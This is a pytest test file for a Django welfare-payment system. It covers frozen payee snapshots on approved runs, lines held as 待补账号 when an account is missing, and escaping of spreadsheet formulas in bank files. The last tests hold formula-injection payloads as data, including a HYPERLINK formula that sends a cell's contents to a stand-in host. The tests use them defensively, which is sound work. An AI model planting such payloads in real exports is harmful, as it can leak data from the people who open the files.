"""An approved run is frozen: its lines keep the payee they were approved with, the bank file
is written from that snapshot, and a later payee change pays from the next run. A line with
no usable account is held back as 待补账号 — absent from the bank file, not paid, owed again
next month. Cells a spreadsheet would read as a formula are written as text."""

from __future__ import annotations

import csv
import datetime as dt
import importlib
import io
import zipfile

import pytest
from django.apps import apps
from django.db import connection
from python_calamine import CalamineWorkbook

from doudi.benefits import bank_files, bank_layouts, services, spending
from doudi.benefits.models import Enrollment, PaymentLine, PaymentRun
from tests.conftest import PASSWORD
from tests.payees import card, give_payee

D = dt.date
DISTRICT = "341002000000"
FIRST, OLD, NEW = card("621700001111222"), card("621700001111357"), card("622848009999468")
OTHER = card("622848009999000813")


def _enroll(world, household, amount: int = 50_000, payee: tuple[str, str] | None = None):
    u = world.users
    e = services.enroll(by=u.district_approver, household=household, programme="dibao",
                        amount_fen=amount, start_date=D(2026, 1, 1))
    if payee:  # an agent of that name collects, through an approved payee change
        give_payee(u, e, payee[1], agent=payee[0])
    return e


def _pay_to(world, e, name: str, account: str, bank: str = "徽商银行") -> None:
    give_payee(world.users, e, account, bank=bank, agent=name, reason="换卡")


def _csv(world, run: PaymentRun, layout: str = "default") -> list[dict[str, str]]:
    data = bank_files.bank_file(by=world.users.district_officer, run=run, layout=layout)[0]
    return list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"))))


def _answer(lines: list[str]) -> bytes:
    return ("流水号,结果,失败原因\n" + "".join(f"{pk},成功,\n" for pk in lines)).encode()


def _run(world, month: dt.date) -> PaymentRun:
    return services.build_run(by=world.users.district_officer, month=month,
                              area_code=DISTRICT).run


@pytest.mark.django_db
def test_a_payee_change_after_approval_pays_from_the_next_run(client, world,
                                                              shipped_parameters):
    u = world.users
    e = _enroll(world, world.village_hh, payee=("张三", FIRST))
    january = _run(world, D(2026, 1, 1))
    # a change while the run is still a draft counts: the payee is taken at approval
    _pay_to(world, e, "张三", OLD)
    services.approve_run(by=u.district_approver, run=january, opinion="经审核，同意")
    _pay_to(world, e, "李四", NEW, bank="农业银行")
    rows = _csv(world, january)
    assert [(r["账号"], r["户名"]) for r in rows] == [(OLD, "张三")]
    line = PaymentLine.objects.get(run=january)
    assert (line.payee_name, line.payee_account, line.bank) == ("张三", OLD, "徽商银行")
    with connection.cursor() as cursor:  # the snapshot is encrypted at rest like the original
        cursor.execute("SELECT payee_account FROM benefits_paymentline WHERE id = %s",
                       [line.pk])
        stored = cursor.fetchone()[0]
    assert stored.startswith("k") and OLD not in stored
    # the page of the approved run shows the payee it was approved with
    client.login(username="district_officer", password=PASSWORD)
    page = client.get(f"/payments/{january.pk}/").content.decode()
    assert OLD[-4:] in page and NEW[-4:] not in page
    # downloading the file again, after one more change, still gives the approved payee
    _pay_to(world, e, "王五", OTHER, bank="农业银行")
    assert _csv(world, january) == rows
    counts = bank_files.bank_result(by=u.district_officer, run=january,
                                    data=_answer([r["流水号"] for r in rows]))
    assert counts == {"paid": 1, "failed": 0, "unknown": 0}
    # the next run pays the payee now in force
    february = _run(world, D(2026, 2, 1))
    services.approve_run(by=u.district_approver, run=february, opinion="经审核，同意")
    assert [(r["账号"], r["户名"]) for r in _csv(world, february)] == [(OTHER, "王五")]


@pytest.mark.django_db
def test_a_line_without_an_account_waits_and_is_paid_once_it_has_one(client, world,
                                                                        shipped_parameters):
    u = world.users
    paid = _enroll(world, world.village_hh, 50_000, payee=("张三", FIRST))
    waiting = _enroll(world, world.same_town_hh, 40_000)  # 未登记账号
    assert waiting.payee_name and not waiting.payee_account
    january = _run(world, D(2026, 1, 1))
    assert january.totals["total_fen"] == 90_000  # a draft: nothing held yet
    services.approve_run(by=u.district_approver, run=january, opinion="经审核，同意")
    january.refresh_from_db()
    held = PaymentLine.objects.get(run=january, enrollment=waiting)
    assert (held.status, held.total_fen) == (PaymentLine.AWAITING_ACCOUNT, 40_000)
    assert held.get_status_display() == "待补账号"
    assert january.totals["awaiting_account"] == {"lines": 1, "total_fen": 40_000}
    assert (january.totals["lines"], january.totals["total_fen"]) == (1, 50_000)
    assert sum(t["total_fen"] for t in january.totals["by_town_programme"]) == 50_000
    rows = _csv(world, january)
    line = PaymentLine.objects.get(run=january, enrollment=paid)
    assert [r["流水号"] for r in rows] == [str(line.pk)]
    assert all(r["账号"] for r in rows)
    # the run's page counts and lists it
    client.login(username="district_officer", password=PASSWORD)
    page = client.get(f"/payments/{january.pk}/").content.decode()
    assert "待补账号" in page and "1 人次，400.00 元" in page
    assert waiting.household.number in page
    # an answer naming the held line cannot settle it: it was never sent
    counts = bank_files.bank_result(by=u.district_officer, run=january,
                                    data=_answer([str(line.pk), str(held.pk)]))
    assert counts == {"paid": 1, "failed": 0, "unknown": 1}
    held.refresh_from_db()
    assert held.status == PaymentLine.AWAITING_ACCOUNT
    # not spent: 资金使用 counts the paid line only
    by_month = spending.spending("341002", 2026).by_month
    assert (by_month["paid_fen"].sum(), by_month["pending_fen"].sum(),
            by_month["lines"].sum()) == (50_000, 0, 1)

    # still no account in February: held again, January's amount carried as arrears
    february = _run(world, D(2026, 2, 1))
    services.approve_run(by=u.district_approver, run=february, opinion="经审核，同意")
    again = PaymentLine.objects.get(run=february, enrollment=waiting)
    assert (again.status, again.regular_fen, again.arrears_fen) == (
        PaymentLine.AWAITING_ACCOUNT, 40_000, 40_000)
    bank_files.bank_result(by=u.district_officer, run=february, data=_answer(
        [r["流水号"] for r in _csv(world, february)]))
    # the account is registered: March pays the three months at once, to it
    _pay_to(world, waiting, "王五", NEW, bank="农业银行")
    march = _run(world, D(2026, 3, 1))
    services.approve_run(by=u.district_approver, run=march, opinion="经审核，同意")
    owed = PaymentLine.objects.get(run=march, enrollment=waiting)
    assert (owed.status, owed.regular_fen, owed.arrears_fen, owed.total_fen) == (
        PaymentLine.PENDING, 40_000, 80_000, 120_000)
    march.refresh_from_db()
    assert march.totals["awaiting_account"] == {"lines": 0, "total_fen": 0}
    assert {(r["账号"], r["金额"]) for r in _csv(world, march)} == {
        (FIRST, "500.00"), (NEW, "1200.00")}


@pytest.mark.django_db
def test_an_invalid_account_or_a_missing_name_is_held_too(world, shipped_parameters):
    u = world.users
    bad = _enroll(world, world.village_hh)
    nameless = _enroll(world, world.same_town_hh)
    good = _enroll(world, world.other_town_hh, payee=("赵六", FIRST))
    # written past a payee change (an old import, an edit in the database)
    Enrollment.objects.filter(pk=bad.pk).update(payee_account="6217-12AB")
    Enrollment.objects.filter(pk=nameless.pk).update(payee_name=" ", payee_account=OLD)
    run = _run(world, D(2026, 1, 1))
    services.approve_run(by=u.district_approver, run=run, opinion="经审核，同意")
    statuses = dict(run.lines.values_list("enrollment_id", "status"))
    assert statuses == {bad.pk: "awaiting_account", nameless.pk: "awaiting_account",
                        good.pk: "pending"}
    assert [r["账号"] for r in _csv(world, run)] == [FIRST]


@pytest.mark.django_db
def test_a_run_approved_before_snapshots_gets_them_and_never_sends_a_blank_account(
        world, shipped_parameters):
    """The migration fills approved runs' lines from the enrollments; a legacy approved run
    whose lines have no usable payee holds them back when its file is produced."""
    u = world.users
    with_account = _enroll(world, world.village_hh, payee=("张三", FIRST))
    blank = _enroll(world, world.same_town_hh)
    run = _run(world, D(2026, 1, 1))
    draft = services.build_run(by=u.district_officer, month=D(2026, 2, 1),
                               area_code=DISTRICT).run
    # as the code before this change left them: approved, lines pending with no snapshot
    PaymentRun.objects.filter(pk=run.pk).update(status=PaymentRun.APPROVED)
    migration = importlib.import_module("doudi.benefits.migrations.0009_frozen_payee")
    migration.fill_snapshots(apps, None)
    lines = {ln.enrollment_id: ln for ln in PaymentLine.objects.filter(run=run)}
    assert (lines[with_account.pk].payee_name, lines[with_account.pk].payee_account) == (
        "张三", FIRST)
    assert lines[blank.pk].payee_account == "" and lines[blank.pk].status == "pending"
    assert set(PaymentLine.objects.filter(run=draft).values_list("payee_name", flat=True)) \
        == {""}  # a draft takes its payee when approved
    run.refresh_from_db()
    assert [r["账号"] for r in _csv(world, run)] == [FIRST]
    lines[blank.pk].refresh_from_db()
    run.refresh_from_db()
    assert lines[blank.pk].status == PaymentLine.AWAITING_ACCOUNT
    assert run.totals["awaiting_account"]["lines"] == 1


FORMULAS = ['=HYPERLINK("http://x.example/?q="&A1,"点此")', "+1", "@SUM(A1:A9)", "-2+3",
            "\t=1", "\r=1"]


def test_formula_like_cells_are_written_as_text() -> None:
    layout = bank_layouts.make_layout(columns=[["流水号", "line"], ["户名", "name"],
                                               ["账号", "account"], ["金额", "amount"]])
    rows = [{"line": str(n), "name": name, "account": FIRST, "amount": "12.30"}
            for n, name in enumerate(FORMULAS, start=1)]
    back = list(csv.DictReader(io.StringIO(
        bank_layouts.render(layout, iter(rows)).decode("utf-8-sig"), newline="")))
    assert [r["户名"] for r in back] == ["'" + f.replace("\r", " ") for f in FORMULAS]
    assert {(r["账号"], r["金额"]) for r in back} == {(FIRST, "12.30")}  # untouched
    assert bank_layouts.neutralise("张三") == "张三"
    assert bank_layouts.neutralise("张\r=1") == "张 =1"  # no row broken by a lone CR
    xlsx = bank_layouts.make_layout(columns=layout.columns, file_format="xlsx")
    data = bank_layouts.render(xlsx, iter(rows))
    sheet = zipfile.ZipFile(io.BytesIO(data)).read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet  # no formula cell
    assert 'quotePrefix="1"' in zipfile.ZipFile(io.BytesIO(data)).read("xl/styles.xml").decode()
    table = CalamineWorkbook.from_filelike(io.BytesIO(data)).get_sheet_by_index(0).to_python()
    # a formula cell would read back as its (absent) result; these read back as the text
    assert [r[1] for r in table[1:]] == FORMULAS
    assert all(isinstance(r[1], str) for r in table[1:])


@pytest.mark.django_db
def test_a_payee_named_like_a_formula_stays_text_in_both_files(world, shipped_parameters,
                                                                 shipped_bank_layouts):
    u = world.users
    names = ['=HYPERLINK("http://x.example","点")', "+1", "@SUM(A1)"]
    for hh, name in zip((world.village_hh, world.same_town_hh, world.other_town_hh), names,
                        strict=True):
        _enroll(world, hh, payee=(name, FIRST))
    run = _run(world, D(2026, 1, 1))
    services.approve_run(by=u.district_approver, run=run, opinion="经审核，同意")
    assert sorted(r["户名"] for r in _csv(world, run)) == sorted("'" + n for n in names)
    data = bank_files.bank_file(by=u.district_officer, run=run, layout="excel")[0]
    assert b"<f>" not in zipfile.ZipFile(io.BytesIO(data)).read("xl/worksheets/sheet1.xml")
    header, *rows = CalamineWorkbook.from_filelike(io.BytesIO(data)).get_sheet_by_index(
        0).to_python()
    column = header.index("户名")
    assert sorted(r[column] for r in rows) == sorted(names)
